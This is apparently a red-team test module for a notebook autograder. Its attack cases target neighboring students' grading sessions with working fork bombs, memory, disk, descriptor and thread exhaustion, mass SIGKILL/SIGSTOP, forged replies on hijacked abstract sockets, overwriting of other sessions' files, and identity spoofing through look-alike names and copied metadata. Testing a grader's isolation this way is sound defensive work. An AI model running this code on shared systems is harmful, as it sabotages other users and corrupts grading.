"""Attacks: neighbor."""

import os

from tests.red_team.declared import attack
from tests.red_team.submission import MARK


@attack(alone=True)
def neighbor_descriptors(submission):
    """Opens as many files, pipes and sockets as it can in many processes, and fills the pipes.

    The kernel counts pages of pipes and descriptors that are in transit per user, in all its
    processes.

    Success: a neighbor's code or its grader can open no file, pipe or socket, and it loses points.
    """
    submission.first(
        """
        import array, fcntl, os, socket, time

        def fill():
            while True:
                ours, theirs = socket.socketpair()
                kept.append((ours, theirs))
                ours.setblocking(False)
                try:
                    for _ in range(100):  # descriptors that nobody receives
                        rights = array.array("i", [theirs.fileno()] * 200)
                        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                except OSError:
                    pass
                reader, writer = os.pipe()
                os.set_blocking(writer, False)
                try:
                    fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ
                except OSError:
                    pass
                try:
                    while True:
                        os.write(writer, bytes(4096))
                except OSError:
                    pass

        kept = []
        for _ in range(20):
            try:
                if os.fork():
                    continue
            except OSError:
                break
            try:
                fill()
            except OSError:
                pass
            time.sleep(25)
            os._exit(0)
        time.sleep(20)
    """
    )


@attack(alone=True)
def neighbor_disk(submission):
    """Fills every folder that it can write to with bytes, then with empty files.

    Success: a neighbor can write no file and loses points, or the files are still there afterwards.
    """
    submission.first(
        """
        import os, time

        folders = [".", "/tmp", "/dev/shm", "/var/tmp", "/run/lock", os.path.expanduser("~")]
        for folder in folders:
            for number in range(64):
                try:
                    with open(f"{folder}/red-team-was-here-{number}", "wb") as file:
                        for _ in range(60):
                            file.write(bytes(1 << 20))
                except OSError:
                    break
        for folder in folders:
            try:
                for number in range(200_000):
                    open(f"{folder}/red-team-was-here-empty-{number}", "x").close()
            except OSError:
                continue
        time.sleep(15)
    """
    )


@attack(alone=True)
def neighbor_memory(submission):
    """Keeps as much memory as it may for a while, in several processes, and then takes all there
    is.

    Success: a neighbor's process is killed or its code raises a MemoryError, so that it loses
    points.
    """
    submission.first(
        """
        import os, time

        end = time.monotonic() + 15
        for _ in range(4):
            if not os.fork():
                block = bytearray(200 << 20)
                while time.monotonic() < end:
                    for position in range(0, len(block), 4096):
                        block[position] = 1
                    time.sleep(0.5)
                os._exit(0)
        while time.monotonic() < end:
            time.sleep(0.5)
        blocks = []
        while True:
            blocks.append(b"x" * (50 << 20))
    """
    )


@attack
def neighbor_name_in_capitals(submission):
    """Submits as a student whose name differs from a neighbor's only in upper case.

    Success: the two are taken for one student, and get each other's points or pages.
    """
    submission.student = submission.neighbor.upper()


@attack
def neighbor_name_with_accent(submission):
    """Submits as a student whose name is a neighbor's with characters that are easily dropped.

    Success: the two are taken for one student, and get each other's points or pages.
    """
    submission.student = f"{submission.neighbor}\u200b\u0301"


@attack(alone=True)
def neighbor_processes(submission):
    """Starts as many processes as it can, and keeps them while others are graded.

    Success: a neighbor's code can start no process or thread and loses points.
    """
    submission.first(
        """
        import os, time

        children = 0
        while children < 5000:
            try:
                if not os.fork():
                    time.sleep(25)
                    os._exit(0)
            except OSError:
                break
            children += 1
        print(children > 0)
        time.sleep(20)
    """
    )


@attack(alone=True)
def neighbor_processor(submission):
    """Starts a hundred processes that compute without end, in a session of their own if possible.

    Success: a neighbor's tests take too long, so that it loses points.
    """
    submission.first(
        """
        import os, time

        end = time.monotonic() + 20
        for _ in range(100):
            try:
                if os.fork():
                    continue
            except OSError:
                break
            for change in (os.setsid, lambda: os.setpgid(0, 0), lambda: os.nice(-20)):
                try:
                    change()
                except OSError:
                    pass
            while time.monotonic() < end:
                pass
            os._exit(0)
        time.sleep(20)
    """
    )


@attack
def neighbor_same_marks(submission):
    """Copies everything by which a submission could be recognized from a neighbor's, except
    answers.

    Success: results of one are given to the other.
    """
    submission.notebook.metadata["nbjudge"] = {"student": submission.neighbor, "seed": 0}
    submission.file("timestamp.txt", "2024-01-01 00:00:00 UTC")

    def have_the_same_size_and_time(folder):
        own = folder / "ps1.ipynb"
        theirs = folder.parents[1] / submission.neighbor / "ps1" / "ps1.ipynb"
        size = theirs.stat().st_size
        assert own.stat().st_size <= size
        own.write_bytes(own.read_bytes().ljust(size))
        for path in (own, theirs, folder, theirs.parent):
            os.utime(path, (1_700_000_000, 1_700_000_000))

    submission.on_disk(have_the_same_size_and_time)


@attack(alone=True)
def neighbor_signals(submission):
    """Signals every process of the machine again and again while others are graded.

    Success: a neighbor's process is stopped or killed, so that it loses points, or the class stops.
    """
    submission.first(
        """
        import os, signal, time

        own = {os.getpid(), os.getppid(), 0, 1}
        for _ in range(40):
            for process in range(2, 3000):
                for number in (signal.SIGSTOP, signal.SIGKILL):
                    if process not in own:
                        try:
                            os.kill(process, number)
                        except OSError:
                            break
            time.sleep(0.3)
    """
    )


@attack(alone=True)
def neighbor_sockets(submission):
    """Connects to every abstract socket, pretends to be a session there, and claims the names it
    can.

    Success: the answer of another session is forged, a neighbor loses points, or the class stops.
    """
    submission.first(
        """
        import os, socket, time

        forged = b"\\x10\\0\\0\\0" + bytes(8) + b"\\1\\0\\0\\0\\4\\0\\0\\0true"
        kept = []
        for name in [b"grader", *(b"nbjudge-users-%d" % n for n in range(200000, 264000, 16384))]:
            try:
                claim = socket.socket(socket.AF_UNIX)
                claim.bind(b"\\0" + name)
                kept.append(claim)
            except OSError:
                pass
        for _ in range(40):
            try:
                lines = open("/proc/net/unix").read().splitlines()
            except OSError:
                lines = []
            for line in lines:
                name = line.split()[-1]
                if name.startswith("@") and name != "@grader":
                    try:
                        with socket.socket(socket.AF_UNIX) as client:
                            client.connect("\\0" + name[1:])
                            client.send(forged)
                    except OSError:
                        pass
            time.sleep(0.3)
    """
    )


@attack(alone=True)
def neighbor_threads(submission):
    """Starts as many threads as it can in each of several processes, and keeps them.

    Success: a neighbor's code can start no process or thread and loses points.
    """
    submission.first(
        """
        import os, threading, time

        def start():
            threading.stack_size(65536)
            while True:
                try:
                    threading.Thread(target=time.sleep, args=(25,), daemon=True).start()
                except RuntimeError:
                    return

        for _ in range(4):
            try:
                if not os.fork():
                    start()
                    time.sleep(25)
                    os._exit(0)
            except OSError:
                break
        start()
        time.sleep(20)
    """
    )


@attack(alone=True, deserves=["square"])
def neighbor_work(submission):
    """Looks for the working folders of other sessions, and replaces what it finds there.

    Success: a neighbor's own module or data is replaced, so that it loses points or shows a trace.
    """
    submission.solve("square")
    submission.first(
        f"""
        import glob, os, time

        places = ["/tmp/*", "/tmp/*/*", "/proc/*/cwd/*", "/proc/*/root/tmp/*/*", "/dev/shm/*"]
        own = os.path.realpath(".")
        for _ in range(40):
            for place in places:
                for path in glob.glob(place, include_hidden=True):
                    if os.path.realpath(path).startswith(own):
                        continue
                    try:
                        if os.path.isdir(path):
                            open(path + "/{MARK}.py", "w").close()
                            open(path + "/numpy.py", "w").close()
                        else:
                            with open(path, "w") as file:
                                file.write("{MARK}")
                    except OSError:
                        pass
            time.sleep(0.3)
    """
    )
